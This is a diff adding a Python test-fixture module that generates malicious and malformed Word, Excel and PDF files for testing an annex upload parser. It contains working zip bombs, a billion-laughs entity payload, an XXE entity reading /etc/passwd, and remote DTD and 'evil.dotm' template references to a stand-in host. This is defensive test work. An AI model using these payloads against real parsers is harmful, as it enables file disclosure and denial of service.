@@ -1,0 +1,302 @@
+"""Makes the files that an annex must never be: bombs, entities, references to the outside, damaged and locked ones."""
+
+from __future__ import annotations
+
+import struct
+import zipfile
+import zlib
+from pathlib import Path
+
+import docx
+import xlsxwriter
+import xlwt
+
+from tests.files.annexes import Annex, write
+
+SMALL = Annex(["序号", "事项名称", "事项类型"], [["1", "船舶登记", "行政确认"]])
+MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+LAUGHS = (
+    '<!DOCTYPE w [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">'
+    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1 if n else str()};" * 10}">' for n in range(9))
+    + "]>"
+)
+
+
+def changed(path: Path, target: Path, **parts) -> Path:
+    """A copy of a package with parts replaced or added: name with __ for / and _dot_ for ., content or function."""
+    wanted = {name.replace("__", "/").replace("_dot_", "."): new for name, new in parts.items()}
+    with zipfile.ZipFile(path) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
+        for info in old.infolist():
+            content = old.read(info)
+            change = wanted.pop(info.filename, None)
+            if callable(change):
+                content = change(content)
+            elif change is not None:
+                content = change
+            new.writestr(info.filename, content)
+        for name, content in wanted.items():
+            new.writestr(name, content)
+    return target
+
+
+def _word(folder: Path) -> Path:
+    return write(SMALL, folder, "docx", "原件")
+
+
+def _sheet(folder: Path) -> Path:
+    return write(SMALL, folder, "xlsx", "原件")
+
+
+def after_declaration(extra: str):
+    def change(content: bytes) -> bytes:
+        start = content.index(b"?>") + 2
+        return content[:start] + extra.encode() + content[start:]
+
+    return change
+
+
+def zip_bomb_word(folder):
+    filler = b"<w:p/>" * (300 * 1024 * 1024 // 6)
+    return changed(_word(folder), folder / "bomb.docx", word__document_dot_xml=filler)
+
+
+def zip_bomb_sheet(folder):
+    filler = b"<row/>" * (300 * 1024 * 1024 // 6)
+    return changed(_sheet(folder), folder / "bomb.xlsx", xl__worksheets__sheet1_dot_xml=filler)
+
+
+def lying_bomb(folder):
+    """A part whose directory entry says 1 kB and that unpacks to 200 MB."""
+    path = folder / "lying.xlsx"
+    source = _sheet(folder)
+    big = b"<x>" + b"a" * (200 * 1024 * 1024) + b"</x>"
+    changed(source, path, xl__sharedStrings_dot_xml=big)
+    data = bytearray(path.read_bytes())
+    true_size = struct.pack("<I", len(big))
+    small = struct.pack("<I", 1024)
+    crc = struct.pack("<I", zlib.crc32(big))
+    for at in _places(data, crc):
+        if data[at + 8 : at + 12] == true_size:
+            data[at : at + 4] = struct.pack("<I", zlib.crc32(big[:1024]))
+            data[at + 8 : at + 12] = small
+    path.write_bytes(bytes(data))
+    return path
+
+
+def _places(data, needle):
+    at = data.find(needle)
+    while at >= 0:
+        yield at
+        at = data.find(needle, at + 1)
+
+
+def many_entries(folder):
+    path = folder / "many.docx"
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        for number in range(10_000):
+            archive.writestr(f"word/{number}.xml", "<a/>")
+    return path
+
+
+def laughs_word(folder):
+    return changed(_word(folder), folder / "laughs.docx", word__document_dot_xml=after_declaration(LAUGHS))
+
+
+def laughs_sheet(folder):
+    return changed(
+        _sheet(folder), folder / "laughs.xlsx", xl__sharedStrings_dot_xml=after_declaration(LAUGHS)
+    )
+
+
+def dtd_sheet(folder):
+    extra = '<!DOCTYPE workbook SYSTEM "http://192.0.2.1/x.dtd">'
+    return changed(_sheet(folder), folder / "dtd.xlsx", xl__workbook_dot_xml=after_declaration(extra))
+
+
+def entity_in_properties(folder):
+    extra = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
+    return changed(_word(folder), folder / "props.docx", docProps__core_dot_xml=after_declaration(extra))
+
+
+def dtd_in_utf16(folder):
+    def change(content):
+        return after_declaration(LAUGHS)(content).decode().replace("UTF-8", "UTF-16").encode("utf-16")
+
+    return changed(_word(folder), folder / "utf16.docx", word__document_dot_xml=change)
+
+
+def external_template(folder):
+    relation = (
+        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{RELATIONS}/attachedTemplate" '
+        'Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>'
+    )
+    return changed(
+        _word(folder), folder / "template.docx", word___rels__settings_dot_xml_dot_rels=relation.encode()
+    )
+
+
+def external_workbook(folder):
+    relation = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship TargetMode = "External" Id="rId1" Type="{RELATIONS}/externalLinkPath" '
+        'Target="file://192.0.2.1/share/other.xlsx"/></Relationships>'
+    )
+    return changed(
+        _sheet(folder),
+        folder / "link.xlsx",
+        xl__externalLinks___rels__externalLink1_dot_xml_dot_rels=relation.encode(),
+    )
+
+
+def far_cell_xlsx(folder):
+    path = folder / "far.xlsx"
+    with xlsxwriter.Workbook(str(path)) as book:
+        sheet = book.add_worksheet()
+        sheet.write(0, 0, "序号")
+        sheet.write(1_048_575, 16_383, "远")
+    return path
+
+
+def far_cell_single_quotes(folder):
+    def change(content):
+        return content.replace(b'"XFD1048576"', b"'XFD1048576'")
+
+    return changed(far_cell_xlsx(folder), folder / "quotes.xlsx", xl__worksheets__sheet1_dot_xml=change)
+
+
+def wide_and_long(folder):
+    path = folder / "wide.xlsx"
+    with xlsxwriter.Workbook(str(path)) as book:
+        sheet = book.add_worksheet()
+        sheet.write(0, 0, "序号")
+        sheet.write(90_000, 700, "远")
+    return path
+
+
+def far_cell_xls(folder):
+    path = folder / "far.xls"
+    book = xlwt.Workbook()
+    sheet = book.add_sheet("a")
+    sheet.write(0, 0, "序号")
+    sheet.write(65_535, 255, "远")
+    book.save(str(path))
+    return path
+
+
+def deep_word(folder):
+    deep = b"<w:sdt><w:sdtContent>" * 50_000
+    start = (
+        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
+    )
+    return changed(_word(folder), folder / "deep.docx", word__document_dot_xml=start + deep)
+
+
+def deep_sheet(folder):
+    deep = b"<a>" * 1_000_000
+    return changed(_sheet(folder), folder / "deep.xlsx", xl__sharedStrings_dot_xml=deep)
+
+
+def huge_strings(folder):
+    words = b"".join(b"<si><t>%08d%s</t></si>" % (n, zlib.crc32(b"%d" % n).to_bytes(4).hex().encode()) for n in range(1_500_000))
+    return changed(
+        _sheet(folder), folder / "strings.xlsx", xl__sharedStrings_dot_xml=b'<sst xmlns="%s">' % MAIN.encode() + words + b"</sst>"
+    )
+
+
+def merges_without_end(folder):
+    merges = b"".join(b'<mergeCell ref="%c1:%c60000"/>' % (65 + n % 26, 65 + n % 26) for n in range(20_000))
+
+    def change(content):
+        block = b'<mergeCells count="20000">' + merges + b"</mergeCells>"
+        content = content.replace(b"</sheetData>", b'<row r="60000"><c r="A60000"><v>1</v></c></row></sheetData>' + block)
+        return content
+
+    return changed(_sheet(folder), folder / "merges.xlsx", xl__worksheets__sheet1_dot_xml=change)
+
+
+def encrypted_package(folder):
+    """What Word writes with a password: an OLE container with a stream EncryptedPackage."""
+    path = folder / "locked.xlsx"
+    book = xlwt.Workbook()
+    book.add_sheet("a").write(0, 0, "x")
+    book.save(str(path))
+    data = path.read_bytes()
+    old, new = "Workbook".encode("utf-16-le"), "EncryptedPackage".encode("utf-16-le")
+    path.write_bytes(data.replace(old + b"\x00" * (len(new) - len(old)), new))
+    return path
+
+
+def locked_xls(folder):
+    path = folder / "locked.xls"
+    book = xlwt.Workbook()
+    book.add_sheet("a").write(0, 0, "x")
+    book.save(str(path))
+    data = path.read_bytes()
+    at = data.index(b"\x09\x08\x10\x00\x00\x06\x05\x00") + 20
+    record = struct.pack("<HHHHH", 0x2F, 6, 0, 0x1234, 0x5678)
+    path.write_bytes(data[:at] + record + data[at + len(record) :])
+    return path
+
+
+def web_page(folder):
+    path = folder / "网页.xls"
+    path.write_text(
+        "<html xmlns:o='urn:schemas-microsoft-com:office:office'><table><tr><td>序号</td></tr></table></html>",
+        "utf-8",
+    )
+    return path
+
+
+def web_page_with_declaration(folder):
+    path = folder / "网页2.xls"
+    path.write_bytes(b'\xef\xbb\xbf<?xml version="1.0"?>\n<!-- made by x -->\n<HTML><body></body></HTML>')
+    return path
+
+
+def picture(folder):
+    path = folder / "扫描.docx"
+    path.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\x00" * 100)
+    return path
+
+
+def scan(folder):
+    path = folder / "扫描.pdf"
+    path.write_bytes(
+        b"%PDF-1.4\n1 0 obj<</Type/Page/Resources<</XObject<</I 2 0 R>>>>>>endobj\n"
+        b"2 0 obj<</Subtype/Image/Length 4>>stream\n\xff\xd8\xff\xe0\nendstream endobj\n%%EOF"
+    )
+    return path
+
+
+def plain_zip(folder):
+    path = folder / "附件.docx"
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("附件1.docx", "x")
+    return path
+
+
+def cut_off(folder):
+    path = folder / "半个.docx"
+    path.write_bytes(_word(folder).read_bytes()[:-500])
+    return path
+
+
+def noise(folder):
+    path = folder / "noise.csv"
+    path.write_bytes(bytes(range(256)) * 20)
+    return path
+
+
+def empty(folder):
+    path = folder / "空.docx"
+    path.write_bytes(b"")
+    return path
+
+
+def empty_word(folder):
+    path = folder / "blank.docx"
+    docx.Document().save(str(path))
+    return path
